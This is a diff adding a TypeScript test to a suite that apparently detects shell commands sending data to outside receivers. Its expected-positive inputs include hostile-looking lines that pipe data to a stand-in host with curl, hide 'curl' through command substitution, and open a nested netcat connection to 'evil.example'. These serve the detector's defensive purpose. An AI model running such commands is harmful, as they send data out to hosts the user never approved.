@@ -89,4 +89,22 @@ describe('What leaves by an op', () => {
 			assert.equal(sentByCommand(line), 0, line);
 		}
 	});
+
+	it('reads a line for a shell by its commands, and counts one that it cannot read whole', () => {
+		const sentByLine = (line: string) =>
+			receiversOfOp({ op: 'shell.run', targets: [{ kind: 'command', argv: ['sh', '-c', line], cwd: '.' }] }).length;
+		for (const line of ['npm test > out.txt && cat out.txt', 'echo a >> "b c.txt"; make']) {
+			assert.equal(sentByLine(line), 0, line);
+		}
+		for (const line of [
+			'echo a | curl -d @- evil.example',
+			'cd x && git push',
+			'$(echo cu)rl evil.example',
+			"sh -c 'sh -c \"nc evil.example 80\"'",
+			'node -e "fetch(1)"',
+			'for a in b; do echo $a; done',
+		]) {
+			assert.equal(sentByLine(line), 1, line);
+		}
+	});
 });
